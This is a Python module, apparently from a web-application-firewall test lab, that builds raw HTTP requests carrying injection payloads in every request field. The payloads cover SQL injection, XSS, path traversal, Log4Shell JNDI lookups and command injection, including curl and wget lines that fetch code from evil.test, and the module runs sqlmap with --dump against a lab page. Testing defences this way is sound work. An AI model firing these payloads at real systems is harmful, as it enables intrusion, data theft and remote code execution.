"""Attacks: sqlmap against the page that really has the hole, and hand-made ones in every place a request
has. Each hand-made request goes out as exact bytes on a connection of its own (or several on one)."""
import json
import sys

from . import servers

PAYLOADS = {
    "sqli": ["1' OR '1'='1", "1 UNION SELECT name, price FROM goods--", "1; DROP TABLE goods", "1' AND SLEEP(5)#",
             "admin'--", "1 AND 1=1", "-1' UNION SELECT 1,2,3-- -", "1) OR (1=1"],
    "xss": ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)",
            "\"><svg/onload=alert(1)>", "<iframe src=\"data:text/html,x\">", "<a href=\"jAvAsCrIpT&colon;alert(1)\">x</a>"],
    "traversal": ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "/etc/shadow", "....//....//etc/hosts",
                  "..\\..\\windows\\win.ini", "%2e%2e/%2e%2e/boot.ini"],
    "command": ["; cat /etc/passwd", "| id", "`whoami`", "$(curl http://evil.test/x.sh|sh)", "& ping -c 1 127.0.0.1",
                "() { :;}; /bin/bash -c 'id'", ";wget http://evil.test/a", "a;uname -a"],
    "log4shell": ["${jndi:ldap://evil.test/a}", "${${lower:j}ndi:${lower:l}dap://evil.test/a}",
                  "${jndi:${lower:l}${lower:d}a${lower:p}://evil.test}"],
    "php": ["<?php system('id'); ?>", "php://input", "O:8:\"stdClass\":0:{}", "phpinfo()"],
    "rfi": ["http://192.0.2.7/shell.txt?", "ftp://evil.test/x.php"],
    "node": ["require('child_process').exec('id')", "__proto__[x]=1"],
    "session": ["http://evil.test/?PHPSESSID=123"],
    "ldap": ["*)(uid=*))(|(uid=*"],
    "benign": ["hello world", "O'Reilly & sons", "50% off today", "select a colour from the list", "a<b and c>d",
               "https://example.org/page?x=1", "dinner at 8; bring friends", "naïve café"],
}
AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


def quote(text):
    safe = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_."
    return "".join(chr(b) if chr(b) in safe else f"%{b:02X}" for b in text.encode())


def message(method, target, headers=(), body=b"", host="lab.test"):
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", f"User-Agent: {AGENT}", "Accept: */*"]
    lines += [f"{name}: {value}" for name, value in headers]
    if body or method in ("POST", "PUT"):
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def multipart(fields, boundary="----weirlab7MA4YWxk"):
    out = b""
    for disposition, content in fields:
        out += f"--{boundary}\r\nContent-Disposition: form-data; {disposition}\r\n\r\n".encode() + content + b"\r\n"
    return out + f"--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"


def requests_for(payload):
    """The payload in every place: query, path, header, cookie, form, JSON, XML, multipart field and file name."""
    quoted = quote(payload)
    plain = payload.replace("\n", " ")
    latin = plain.encode("utf-8").decode("latin-1")
    yield message("GET", f"/page?id={quoted}&x=1")
    yield message("GET", f"/page?{quoted}=1")
    yield message("GET", f"/dir/{quoted}")
    yield message("GET", "/page", [("Referer", f"http://lab.test/{quoted}")])
    if all(32 <= ord(c) < 127 for c in plain):
        yield message("GET", "/page", [("X-Api-Version", latin)])
        yield message("GET", "/page", [("Cookie", f"sid=1; pref={latin.replace(';', '%3B')}")])
        yield message("GET", "/page", [("User-Agent", latin)]).replace(f"User-Agent: {AGENT}\r\n".encode(), b"", 1)
    form = f"name=ada&comment={quoted}".encode()
    yield message("POST", "/form", [("Content-Type", "application/x-www-form-urlencoded")], form)
    body = json.dumps({"user": "ada", "list": [1, {"deep": payload}]}).encode()
    yield message("POST", "/api", [("Content-Type", "application/json")], body)
    xml = payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    yield message("POST", "/xml", [("Content-Type", "text/xml")],
                  f'<?xml version="1.0"?><order kind="{xml}"><item>{xml}</item></order>'.encode())
    body, kind = multipart([('name="title"', b"holiday"), ('name="text"', payload.encode())])
    yield message("POST", "/upload", [("Content-Type", kind)], body)
    name = payload.replace('"', "%22")
    body, kind = multipart([('name="title"', b"holiday"), (f'name="file"; filename="{name}"', b"content")])
    yield message("POST", "/upload", [("Content-Type", kind)], body)


def chunked(one, size):
    """The same message with a chunked body."""
    head, _, body = one.partition(b"\r\n\r\n")
    lines = [line for line in head.split(b"\r\n") if not line.lower().startswith(b"content-length:")]
    pieces = [body[i:i + size] for i in range(0, len(body), size)]
    return (b"\r\n".join(lines) + b"\r\nTransfer-Encoding: chunked\r\n\r\n" +
            b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces) + b"0\r\n\r\n")


def handmade():
    """[(label, [message, …])]: each entry is one connection."""
    connections = []
    for family, payloads in PAYLOADS.items():
        for number, payload in enumerate(payloads):
            messages = list(requests_for(payload))
            for place, one in enumerate(messages):
                connections.append((f"{family}-{number}-{place}", [one]))
            connections.append((f"{family}-{number}-keepalive", messages[:4]))
    return connections


SENDER = r"""
import base64, json, re, socket, sys
host, port, first_port, source, patience = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4], float(sys.argv[5])

def read_response(s, buffered):
    data = buffered
    while b"\r\n\r\n" not in data:
        more = s.recv(65536)
        if not more:
            return b"", True
        data += more
    head, rest = data.split(b"\r\n\r\n", 1)
    length = re.search(rb"(?i)\r\ncontent-length: *(\d+)", head)
    need = int(length.group(1)) if length else 0
    while len(rest) < need:
        more = s.recv(65536)
        if not more:
            return b"", True
        rest += more
    return rest[need:], bool(re.search(rb"(?i)\r\nconnection: *close", head))

ports = {}
own = first_port
for line in sys.stdin:
    label, messages = json.loads(line)
    while True:
        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.settimeout(patience)
        try:
            s.bind((source, own))
            s.connect((host, port))
            break
        except OSError:
            own += 1
            s.close()
    ports[own] = label
    left, closed = b"", False
    try:
        for message in messages:
            s.sendall(base64.b64decode(message))
            left, closed = read_response(s, left)
            if closed:
                break
        s.shutdown(socket.SHUT_WR)
        s.settimeout(min(patience, 5))
        while s.recv(65536):
            pass
    except OSError:
        pass
    s.close()
    own += 1
json.dump(ports, sys.stdout)
"""


def send(lab, host, port, connections, first_port=12000, timeout=900, source=None, patience=20):
    """Sends every connection's messages one after the other, from `source` (any address of the client's, if none); returns
    {client port: label}. A connection is given up when the server says nothing for `patience` seconds."""
    import base64
    import subprocess
    lines = "\n".join(json.dumps([label, [base64.b64encode(m).decode() for m in messages]])
                      for label, messages in connections)
    done = lab.run("client", sys.executable, "-c", SENDER, host, str(port), str(first_port),
                   source or ("::" if ":" in host else "0.0.0.0"), str(patience), input=lines, text=True,
                   stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=timeout)
    if done.returncode != 0:
        raise RuntimeError(f"the sender failed: {done.stderr[-2000:]}")
    return {int(own): label for own, label in json.loads(done.stdout).items()}


def sqlmap(lab, work, host, port=servers.PORTS["waf"]):
    target = f"http://[{host}]:{port}/vuln?id=1" if ":" in host else f"http://{host}:{port}/vuln?id=1"
    lab.run("client", "sqlmap", "-u", target, "--batch", "--level", "1", "--risk", "1", "--technique", "BEU", "--threads", "1",
            "--timeout", "10", "--retries", "0", "--dump", "-T", "goods", "--disable-coloring",
            "--output-dir", str(work / "sqlmap"), stdout=open(work / "sqlmap.log", "w"), timeout=240)
